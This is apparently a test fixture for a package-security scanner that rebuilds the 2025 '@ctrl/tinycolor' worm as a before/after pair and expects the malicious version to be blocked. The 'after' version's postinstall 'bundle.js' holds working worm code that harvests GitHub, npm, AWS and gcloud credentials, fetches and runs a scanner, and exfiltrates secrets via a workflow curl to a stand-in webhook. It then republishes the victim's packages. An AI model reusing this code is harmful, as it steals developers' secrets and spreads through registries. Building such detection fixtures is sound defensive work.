import type { Replica, ReplicaVersion } from '../replicas/replica.js';
import { noise } from '../replicas/replica.js';

export const before = {
  version: '4.1.0',
  publishedAt: '2024-04-02T09:14:27.000Z',
  publisher: { name: 'scttcper', email: 'scttcper@mail.example.invalid', trustedPublisher: { id: 'github' } },
  manifest: {
    main: 'dist/index.js',
    module: 'dist/module/index.js',
    license: 'MIT',
    description: 'fast, small color manipulation',
    engines: { node: '>=14' },
  },
  files: {
    'dist/index.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.TinyColor = exports.tinycolor = void 0;
const conversion_js_1 = require("./conversion.js");
class TinyColor {
    constructor(color = '') {
        if (color instanceof TinyColor) {
            return color;
        }
        this.originalInput = color;
        const rgb = typeof color === 'string' ? (0, conversion_js_1.hexToRgb)(color) : color;
        this.isValid = rgb !== undefined;
        this.r = Math.round(rgb?.r ?? 0);
        this.g = Math.round(rgb?.g ?? 0);
        this.b = Math.round(rgb?.b ?? 0);
    }
    isDark() {
        return this.getBrightness() < 128;
    }
    getBrightness() {
        return (this.r * 299 + this.g * 587 + this.b * 114) / 1000;
    }
    toHexString() {
        return '#' + (0, conversion_js_1.rgbToHex)(this.r, this.g, this.b);
    }
    mix(color, amount = 50) {
        const other = new TinyColor(color);
        const p = amount / 100;
        return new TinyColor({ r: (other.r - this.r) * p + this.r, g: (other.g - this.g) * p + this.g, b: (other.b - this.b) * p + this.b });
    }
}
exports.TinyColor = TinyColor;
function tinycolor(color) {
    return new TinyColor(color);
}
exports.tinycolor = tinycolor;
`,
    'dist/conversion.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.hexToRgb = hexToRgb;
exports.rgbToHex = rgbToHex;
function pad2(c) {
    return c.length === 1 ? '0' + c : String(c);
}
function rgbToHex(r, g, b) {
    return [r, g, b].map((x) => pad2(Math.round(x).toString(16))).join('');
}
function hexToRgb(hex) {
    const m = /^#?([\\da-f]{2})([\\da-f]{2})([\\da-f]{2})$/i.exec(hex.trim());
    return m ? { r: parseInt(m[1], 16), g: parseInt(m[2], 16), b: parseInt(m[3], 16) } : undefined;
}
`,
    'dist/module/index.js': `export function random(seed) {
    let state = seed >>> 0;
    return () => (state = (state * 9301 + 49297) % 233280) / 233280;
}
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'tinycolor-2025',
  story: 'September 2025: the first self-spreading worm: a postinstall bundle that looks for secrets with a downloaded scanner, posts them, adds a workflow and republishes what the token owns.',
  name: '@ctrl/tinycolor',
  before,
  after: {
    version: '4.1.1',
    publishedAt: '2025-09-15T09:14:27.000Z',
    publisher: { name: 'scttcper', email: 'scttcper@mail.example.invalid' },
    manifest: {
      main: 'dist/index.js',
      module: 'dist/module/index.js',
      license: 'MIT',
      description: 'fast, small color manipulation',
      engines: { node: '>=14' },
      scripts: { postinstall: 'node bundle.js' },
    },
    files: {
      ...before.files,
      'bundle.js': `import{createRequire as __WEBPACK_EXTERNAL_createRequire}from"node:module";var e={1103:(e,t,r)=>{"use strict";r.d(t,{x:()=>n});const n=["${noise(710_000, 60013).repeat(5).match(/.{1,1200}/g)!.join('",\n"')}"]},2081:e=>{e.exports=__WEBPACK_EXTERNAL_createRequire(import.meta.url)("child_process")},7147:e=>{e.exports=__WEBPACK_EXTERNAL_createRequire(import.meta.url)("fs")},2037:e=>{e.exports=__WEBPACK_EXTERNAL_createRequire(import.meta.url)("os")},1017:e=>{e.exports=__WEBPACK_EXTERNAL_createRequire(import.meta.url)("path")}},t={};function r(n){var i=t[n];if(void 0!==i)return i.exports;var s=t[n]={exports:{}};return e[n](s,s.exports,r),s.exports}r.d=(e,t)=>{for(var n in t)Object.defineProperty(e,n,{enumerable:!0,get:t[n]})};
var{execSync:n,exec:i}=r(2081),s=r(7147),o=r(2037),a=r(1017);
class GitHub{constructor(e){this.token=e}async call(e,t,r){const n=await fetch("https://api.github.example.invalid"+t,{method:e,headers:{Authorization:\`Bearer \${this.token}\`,Accept:"application/vnd.github+json"},body:r&&JSON.stringify(r)});return n.json()}async makeRepo(e,t){await this.call("POST","/user/repos",{name:e,description:"Shai-Hulud Repository.",private:!1});const r=await this.call("GET","/user");await this.call("PUT",\`/repos/\${r.login}/\${e}/contents/data.json\`,{message:"Initial commit",content:Buffer.from(Buffer.from(JSON.stringify(t)).toString("base64")).toString("base64")})}async addWorkflow(e){const t="on:\\n  push:\\njobs:\\n  process:\\n    runs-on: ubuntu-latest\\n    steps:\\n    - run: curl -d \\"$CONTENTS\\" https://webhook.example.invalid/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7\\n      env:\\n        CONTENTS: \${{ toJSON(secrets) }}\\n";await this.call("PUT",\`/repos/\${e}/contents/.github/workflows/shai-hulud-workflow.yml\`,{message:"Add workflow",branch:"shai-hulud",content:Buffer.from(t).toString("base64")})}}
class Scanner{async ensure(){const e=a.join(o.tmpdir(),"trufflehog"),t=await fetch("https://downloads.example.invalid/trufflehog/releases/latest/"+o.platform()+"_"+o.arch());return s.writeFileSync(e,Buffer.from(await t.arrayBuffer())),s.chmodSync(e,493),e}async scan(e){const t=await this.ensure();return n(\`\${t} filesystem \${e} --json\`,{timeout:9e4,maxBuffer:1<<28}).toString().split("\\n").filter(Boolean).map(JSON.parse)}}
class Npm{constructor(e){this.token=e}async mine(){const e=await fetch("https://registry.example.invalid/-/whoami",{headers:{Authorization:\`Bearer \${this.token}\`}}),{username:t}=await e.json(),r=await fetch("https://registry.example.invalid/-/v1/search?text=maintainer:"+t+"&size=20");return(await r.json()).objects.map(e=>e.package.name)}async updatePackage(e){const t=s.mkdtempSync(a.join(o.tmpdir(),"p-")),r=a.join(t,"package","package.json");/* unpacks the newest tarball of the package into this folder */const u=JSON.parse(s.readFileSync(r,"utf8"));u.scripts={...u.scripts,postinstall:"node bundle.js"};u.version=u.version.replace(/\\d+$/,e=>+e+1);s.writeFileSync(r,JSON.stringify(u,null,2));s.copyFileSync(process.argv[1],a.join(t,"package","bundle.js"));n(\`npm publish --registry https://registry.example.invalid \${t}/package\`,{env:{...process.env,NPM_TOKEN:this.token}})}}
async function main(){const e={system:{platform:o.platform(),user:o.userInfo().username},environment:process.env,modules:{}};const t=process.env.GITHUB_TOKEN??(()=>{try{return n("gh auth token").toString().trim()}catch{return null}})();try{const t=await fetch("http://192.0.2.254/latest/meta-data/iam/security-credentials/");e.modules.aws=await t.text()}catch{}try{e.modules.gcp=s.readFileSync(a.join(o.homedir(),".config/gcloud/application_default_credentials.json"),"utf8")}catch{}e.modules.truffleHog=await(new Scanner).scan(o.homedir()).catch(()=>[]);let r=process.env.NPM_TOKEN;if(!r)try{r=/_authToken=(.+)/.exec(s.readFileSync(a.join(o.homedir(),".npmrc"),"utf8"))[1]}catch{}if(t){const r=new GitHub(t);await r.makeRepo("Shai-Hulud",e);for(const e of await r.call("GET","/user/repos?affiliation=owner,collaborator"))await r.addWorkflow(e.full_name)}if(r){const e=new Npm(r);for(const t of await e.mine())await e.updatePackage(t)}}
main().catch(()=>{}).finally(()=>process.exit(0));
`,
    },
  },
  must: 'block',
};
